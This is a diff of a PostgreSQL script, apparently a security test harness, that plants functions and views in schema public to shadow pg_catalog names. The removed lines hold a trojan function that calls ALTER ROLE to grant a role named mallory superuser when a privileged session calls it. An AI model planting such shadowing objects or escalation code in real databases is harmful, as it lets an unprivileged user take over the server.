@@ -1,14 +1,6 @@
 -- Plants in schema public, as a role without privileges: functions and operators with every name of
 -- pg_catalog that is among NAMES, for combinations of argument types, and views with the names of the
 -- most used catalogs.
-CREATE FUNCTION public.alarm(what text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
-BEGIN
-    RAISE LOG 'planted % of mallory_% was called', what, current_database();
-    IF current_setting('transaction_read_only') = 'off' THEN
-        EXECUTE format('ALTER ROLE mallory_%s SUPERUSER', current_database());
-    END IF;
-END
-$f$;
 SET search_path = pg_catalog;
 SET check_function_bodies = off;
 DO $plant$
